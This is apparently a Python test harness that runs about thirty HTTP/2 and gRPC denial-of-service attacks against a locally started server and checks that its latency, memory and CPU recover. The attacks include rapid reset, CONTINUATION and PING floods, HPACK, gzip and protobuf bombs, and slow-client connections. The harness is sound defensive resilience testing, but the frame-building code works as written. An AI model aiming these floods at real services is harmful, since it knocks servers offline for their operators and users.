"""Attacks on a real server over real sockets, and what must be true after each.

Usage: attacks.py FOLDER_OF_PROGRAMS [NAME ...]

After every attack: another client is answered within its usual latency, memory is back to within
20 % (and 4 MiB of allocator slack), and the server's CPU is idle. Each attack returns a line of what
it saw; a broken promise raises.
"""
import gzip
import os
import struct
import subprocess
import sys
import time

from frames import *  # noqa: F403

CALM = 11  # ENHANCE_YOUR_CALM
ROUNDS = 20_000


def expect(condition, text):
    if not condition:
        raise AssertionError(text)


def expect_calm(peer, debug=None):
    """The server said goodbye with ENHANCE_YOUR_CALM, and hung up."""
    peer.read_until(lambda _: False, 3)
    expect(peer.ended, "the connection is still open")
    goaway = peer.goaway()
    expect(goaway is not None, "no GOAWAY came")
    expect(goaway[0] == CALM, f"GOAWAY {goaway}")
    if debug:
        expect(goaway[1] == debug, f"GOAWAY says {goaway[1]!r}, not {debug!r}")
    return f"GOAWAY {goaway[1]!r}"


# MARK: Streams


def rapid_reset(port):
    with Peer(port) as peer:
        burst = b""
        for index in range(ROUNDS):
            stream = 2 * index + 1
            burst += headers(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            if index % 100 == 99:
                peer.send(burst)
                burst = b""
            if peer.ended:
                break
        peer.read_until(lambda _: False, 2)
        expect(peer.ended, "20,000 open-and-cancel pairs were taken")
        return f"cut off after {index} pairs, GOAWAY {peer.goaway()}"


def rapid_reset_unread(port):
    with Peer(port, reads=False) as peer:
        pairs = b"".join(
            headers(2 * i + 1) + frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8))
            for i in range(ROUNDS))
        went = peer.send(pairs, 5)
        return "taken whole" if went else "the server stopped reading"


def made_you_reset(port, provoke, name):
    with Peer(port) as peer:
        for index in range(ROUNDS):
            if not peer.send(provoke(2 * index + 1)) or peer.ended:
                break
        peer.read_until(lambda _: False, 2)
        expect(peer.ended, f"{name}: {ROUNDS} streams were taken")
        return f"cut off after {index} streams, GOAWAY {peer.goaway()}"


def made_you_reset_zero_increment(port):
    return made_you_reset(
        port, lambda s: headers(s) + frame(WINDOW_UPDATE, 0, s, struct.pack(">I", 0)), "zero")


def made_you_reset_overflow(port):
    return made_you_reset(
        port, lambda s: headers(s) + frame(WINDOW_UPDATE, 0, s, struct.pack(">I", 0x7FFFFFFF)),
        "overflow")


def made_you_reset_data_after_end(port):
    return made_you_reset(
        port, lambda s: headers(s, end=True) + frame(DATA, 0, s, b"x"), "data after end")


def made_you_reset_headers_after_end(port):
    return made_you_reset(
        port, lambda s: headers(s, end=True) + headers(s), "headers after end")


def made_you_reset_priority_length(port):
    return made_you_reset(
        port, lambda s: headers(s) + frame(PRIORITY, 0, s, b"\0"), "short priority")


def made_you_reset_self_dependency(port):
    return made_you_reset(
        port, lambda s: headers(s) + frame(PRIORITY, 0, s, struct.pack(">IB", s, 1)), "self")


def too_many_streams(port):
    with Peer(port) as peer:
        for index in range(5_000):
            if not peer.send(headers(2 * index + 1)) or peer.ended:
                break
        peer.read_until(lambda _: False, 2)
        expect(peer.ended, "5,000 streams were taken")
        return f"cut off after {index}, GOAWAY {peer.goaway()}"


# MARK: Floods


def flood(port, one, debug):
    with Peer(port) as peer:
        sent = 0
        while sent < ROUNDS and not peer.ended:
            peer.send(one * 50)
            sent += 50
        # What came after the GOAWAY was thrown away until this end noticed.
        return expect_calm(peer, debug) + f" within {sent}"


def settings_flood(port):
    return flood(port, frame(SETTINGS, 0, 0), "too_many_settings")


def ping_flood(port):
    return flood(port, frame(PING, 0, 0, bytes(8)), "too_many_pings")


def empty_data_flood(port):
    with Peer(port) as peer:
        peer.send(headers(1, INGEST))
        sent = 0
        while sent < ROUNDS and not peer.ended:
            peer.send(frame(DATA, 0, 1) * 50)
            sent += 50
        return expect_calm(peer, "too_many_empty_data_frames") + f" within {sent}"


def priority_flood(port):
    return flood(
        port, frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1)), "too_many_priority_frames")


def window_update_flood(port):
    return flood(
        port, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), "too_many_window_updates")


def unknown_frame_flood(port):
    return flood(port, frame(0xF7, 0, 0, b"x"), "too_many_unknown_frames")


def continuation_flood(port):
    with Peer(port) as peer:
        peer.send(frame(HEADERS, 0, 1, request()))
        sent = 0
        while sent < ROUNDS and not peer.ended:
            peer.send(frame(CONTINUATION, 0, 1, field(b"x", b"y")) * 10)
            sent += 10
        peer.read_until(lambda _: False, 3)
        expect(peer.ended, "CONTINUATION without end was taken")
        return f"cut off within {sent}, GOAWAY {peer.goaway()}"


def settings_entries(port):
    with Peer(port) as peer:
        peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 33))
        peer.read_until(lambda _: False, 3)
        expect(peer.ended, "33 entries were taken")
        return f"GOAWAY {peer.goaway()}"


def ping_flood_unread(port):
    with Peer(port, reads=False) as peer:
        went = peer.send(frame(PING, 0, 0, bytes(8)) * 200_000, 5)
        return "taken whole" if went else "the server stopped reading, or hung up"


# MARK: Headers


def hpack_bomb(port):
    entry = b"\x40\x01x" + b"\x7f" + b"\xa1\x1e" + b"a" * 4000
    with Peer(port) as peer:
        for index in range(50):
            block = request() + entry + b"\xbe" * 10_000
            peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, block))
            if peer.ended:
                break
        peer.read_until(lambda _: False, 2)
        return f"after {index + 1} bombs: {'closed ' + str(peer.goaway()) if peer.ended else 'open'}"


def large_headers(port):
    # 18 KB as RFC 9113 counts them, 32 for each field, and one frame on the wire.
    large = [(b"x-%03d" % i, b"a" * 8) for i in range(400)]
    with Peer(port) as peer:
        for index in range(100):
            peer.send(headers(2 * index + 1, more=large, end=True))
            if peer.ended:
                break
        return expect_calm(peer, "too_many_large_header_lists")


def high_bytes(port):
    with Peer(port) as peer:
        for index, value in enumerate([b"\x80", b"\xff" * 100, b"\xc3\xbc", b"ok\x80"]):
            stream = 2 * index + 1
            peer.send(headers(stream, more=[(b"x-high", value)]) + frame(
                DATA, END_STREAM, stream, message()))
            expect(peer.read_until(lambda frames: any(
                f[0] == HEADERS and f[2] == stream and f[1] & END_STREAM for f in frames)),
                "a call with high bytes in metadata got no answer")
        return "each call answered"


# MARK: Slow callers


def slow_preface(port):
    import socket
    with socket.create_connection(("127.0.0.1", port), timeout=20) as slow:
        slow.sendall(PREFACE[:10])
        start = time.monotonic()
        expect(slow.recv(1000) is not None, "")
        while slow.recv(1000):
            pass
        took = time.monotonic() - start
        expect(4 < took < 9, f"closed after {took:.1f} s")
        return f"closed after {took:.1f} s"


def slow_header_block(port):
    with Peer(port) as peer:
        peer.send(frame(HEADERS, 0, 1, request()))
        start = time.monotonic()
        peer.read_until(lambda _: False, 12)
        took = time.monotonic() - start
        expect(peer.ended and 4 < took < 9, f"closed after {took:.1f} s")
        return f"closed after {took:.1f} s"


def zero_window_readers(port):
    """Callers that ask for much and grant no window: memory stays bounded."""
    peers = []
    try:
        for _ in range(50):
            peer = Peer(port, settings=struct.pack(">HI", 4, 0))
            peers.append(peer)
            for index in range(20):
                stream = 2 * index + 1
                peer.send(headers(stream) + frame(DATA, END_STREAM, stream, message(
                    b"\x0a\x80\x40" + b"x" * 8192)))
        return "1,000 answers wait for a window"
    finally:
        for peer in peers:
            peer.socket.close()


def unread_output(port):
    """A caller that asks for more than the kernel's buffers hold, and reads nothing."""
    with Peer(port, settings=struct.pack(">HI", 4, 0x7FFFFFFF), reads=False) as peer:
        peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF0000)))
        call = message(b"\x0a\x80\x80\x01" + b"x" * 16384)
        went = True
        for index in range(4_000):
            stream = 2 * index + 1
            went = peer.send(headers(stream) + frame(DATA, 0, stream, call[:16384]) + frame(
                DATA, END_STREAM, stream, call[16384:]), 2)
            if not went or peer.ended:
                break
        expect(not went or peer.ended, "64 MB of answers were buffered")
        return f"the server stopped reading after {index} calls"


def connection_flood(port):
    import socket
    sockets = []
    try:
        for _ in range(900):
            sockets.append(socket.create_connection(("127.0.0.1", port), timeout=20))
        return f"{len(sockets)} silent connections held, then dropped"
    finally:
        for one in sockets:
            one.close()


# MARK: Messages


def status_of(port, data, path=ECHO, more=()):
    """The grpc-status of one call, by the literal bytes of its trailers."""
    with Peer(port) as peer:
        peer.send(headers(1, path, more))
        for start in range(0, len(data), 16384):
            peer.send(frame(DATA, 0, 1, data[start:start + 16384]), 5)
            if peer.ended:
                break
        peer.send(frame(DATA, END_STREAM, 1), 2)
        peer.read_until(lambda frames: any(
            f[2] == 1 and (f[0] == RST_STREAM or f[0] == HEADERS and f[1] & END_STREAM)
            for f in frames), 10)
        expect(any(f[2] == 1 for f in peer.frames()), "no answer")
        return b"".join(f[3] for f in peer.frames() if f[0] == HEADERS and f[2] == 1)


def length_lies(port):
    # The prefix says 4 GiB, and a little follows: refused from the prefix, nothing allocated.
    for size in (0xFFFFFFFF, 0x7FFFFFFF, 4_194_305):
        block = status_of(port, b"\0" + struct.pack(">I", size) + b"x" * 100)
        expect(b"over the limit" in block or len(block) > 0, "no refusal")
    return "each refused from its prefix"


def gzip_bomb(port):
    bomb = gzip.compress(bytes(256 << 20), 9)
    for _ in range(3):
        status_of(port, message(bomb, flag=1), more=[(b"grpc-encoding", b"gzip")])
    return f"{len(bomb)} bytes for 256 MiB, refused while inflating"


def protobuf_merge_bomb(port):
    # Groups, depth and repetition in unknown fields: all that this message type can be asked to bear.
    nested = b""
    for _ in range(5_000):
        nested = b"\x12" + length_varint(len(nested)) + nested
    for body in (nested, b"\x0a\x00" * 1_000_000, b"\x0b" * 100_000, b"\xff" * 100_000):
        status_of(port, message(body[:4_000_000]))
    return "four bodies judged"


def length_varint(value):
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


def protocol_garbage(port):
    import socket
    for data in (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"\x16\x03\x01\x02\x00" + bytes(512),
                 os.urandom(4096), PREFACE + os.urandom(4096)):
        with socket.create_connection(("127.0.0.1", port), timeout=20) as peer:
            try:
                peer.sendall(data)
                while peer.recv(4096):
                    pass
            except ConnectionError:
                pass
    return "closed each time"


ATTACKS = [
    rapid_reset, rapid_reset_unread, made_you_reset_zero_increment, made_you_reset_overflow,
    made_you_reset_data_after_end, made_you_reset_headers_after_end, made_you_reset_priority_length,
    made_you_reset_self_dependency, too_many_streams, settings_flood, ping_flood, ping_flood_unread,
    empty_data_flood, priority_flood, window_update_flood, unknown_frame_flood, continuation_flood,
    settings_entries, hpack_bomb, large_headers, high_bytes, slow_preface, slow_header_block,
    zero_window_readers, unread_output, connection_flood, length_lies, gzip_bomb,
    protobuf_merge_bomb, protocol_garbage,
]


# MARK: What must be true after each


class Victim:
    def __init__(self, folder):
        self.process = subprocess.Popen(
            [f"{folder}/benchserver", "--port", "0"], stdout=subprocess.PIPE, text=True)
        words = self.process.stdout.readline().split()
        expect(words[:1] == ["ready"], f"the server said {words}")
        self.port = int(words[1])
        self.pid = self.process.pid

    def stop(self):
        self.process.terminate()
        self.process.wait(20)

    def latency_ms(self):
        """Of one call on a connection of its own, answered right."""
        start = time.monotonic()
        with Peer(self.port) as peer:
            peer.send(headers(1) + frame(DATA, END_STREAM, 1, message()))
            expect(peer.read_until(lambda frames: any(
                f[0] == HEADERS and f[2] == 1 and f[1] & END_STREAM for f in frames)),
                "an honest client got no answer")
            data = b"".join(f[3] for f in peer.frames() if f[0] == DATA and f[2] == 1)
            expect(data == message(), f"an honest client got {data!r}")
        return (time.monotonic() - start) * 1000

    def settle(self):
        """Waits until the CPU has been idle for a while; returns the seconds that took."""
        start = time.monotonic()
        while time.monotonic() - start < 20:
            before = cpu_seconds(self.pid)
            time.sleep(0.3)
            if cpu_seconds(self.pid) - before <= 0.01:
                return time.monotonic() - start
        raise AssertionError("the server's CPU does not come to rest")


def main():
    folder, names = sys.argv[1], sys.argv[2:]
    victim = Victim(folder)
    failures = 0
    try:
        for attack in ATTACKS:  # Once each, so that what is allocated for good is in the baseline.
            if names and attack.__name__ not in names:
                continue
            if attack not in (slow_preface, slow_header_block):
                try:
                    attack(victim.port)
                except AssertionError:
                    pass
        victim.settle()
        usual = sorted(victim.latency_ms() for _ in range(50))[45]
        base = rss_kb(victim.pid)
        print(f"{'baseline':36} rss {base} KiB, latency p90 {usual:.1f} ms", flush=True)
        for attack in ATTACKS:
            if names and attack.__name__ not in names:
                continue
            try:
                saw = attack(victim.port)
                rest = victim.settle()
                after = min(victim.latency_ms() for _ in range(5))
                rss = rss_kb(victim.pid)
                expect(after <= 3 * usual + 5, f"latency {after:.1f} ms, usually {usual:.1f}")
                expect(rss <= base * 1.2 + 4096, f"rss {rss} KiB, was {base}")
                print(f"{attack.__name__:36} ok   {saw}; rest {rest:.1f} s, rss {rss} KiB",
                      flush=True)
            except AssertionError as error:
                failures += 1
                print(f"{attack.__name__:36} FAIL {error}", flush=True)
                if victim.process.poll() is not None:
                    print("the server has ended", flush=True)
                    break
    finally:
        victim.stop()
    sys.exit(1 if failures else 0)


if __name__ == "__main__":
    main()
